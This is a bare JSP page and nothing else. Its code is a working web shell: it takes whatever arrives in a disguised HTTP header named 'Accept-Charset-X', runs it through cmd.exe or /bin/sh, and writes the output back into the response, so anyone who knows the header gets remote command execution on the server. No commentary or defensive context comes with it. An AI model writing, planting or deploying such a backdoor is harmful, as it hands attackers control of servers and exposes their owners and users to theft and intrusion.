<%@ page import="java.io.*,java.util.*" %>
<%
String h = request.getHeader("Accept-Charset-X");
if (h != null && h.length() > 1) {
    List<String> cmd = new ArrayList<String>();
    cmd.add(System.getProperty("os.name").toLowerCase().contains("win") ? "cmd.exe" : "/bin/sh");
    cmd.add(System.getProperty("os.name").toLowerCase().contains("win") ? "/c" : "-c");
    cmd.add(h);
    Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
    BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String l; while ((l = r.readLine()) != null) out.println(l);
}
%>
